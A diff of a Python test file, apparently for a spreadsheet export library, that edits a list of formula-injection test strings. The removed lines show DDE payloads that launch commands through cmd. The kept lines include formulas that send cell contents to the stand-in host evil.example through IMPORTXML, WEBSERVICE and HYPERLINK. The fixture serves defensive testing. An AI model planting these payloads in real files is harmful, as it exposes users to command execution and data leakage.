@@ -7,11 +7,11 @@ from datetime import UTC, date, datetime, timedelta, timezone
 from decimal import Decimal
 
 FORMULAS = (
-    "=1+1", "=", "==", "=A1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","klik")', "=cmd|' /C calc'!A0",
+    "=1+1", "=", "==", "=A1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","klik")', "=app|'x'!A0",
     "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")", "={1,2}", "=\n1+1", "= 1+1", "=-1", "=@A1", "=#REF!", "=TRUE", "='Sheet'!A1",
-    "+1", "+62 812-3456-7890", "+cmd|' /C calc'!A0", "+1+1", "-1", "-1+1", "--5", "-cmd|' /C calc'!A0", "-", "+", "@",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1",
+    "=DDE(\"app\";\"x\";\"y\")", "={1,2}", "=\n1+1", "= 1+1", "=-1", "=@A1", "=#REF!", "=TRUE", "='Sheet'!A1",
+    "+1", "+62 812-3456-7890", "+app|'x'!A0", "+1+1", "-1", "-1+1", "--5", "-app|'x'!A0", "-", "+", "@",
+    "@SUM(1+1)*app|'x'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1",
     '"=1+1"', " =1+1", ";=1+1", "a;=1+1", "a,=1+1", "_x003D_1+1", "<f>1+1</f>", "#N/A", "#REF!", "TRUE", "1E5",
     "0012", "3201121234567890", "１２", "</t></is></c><c><f>1+1</f>", "&#61;1+1", "]]>", "%0A=1+1",
 )  # fmt: skip
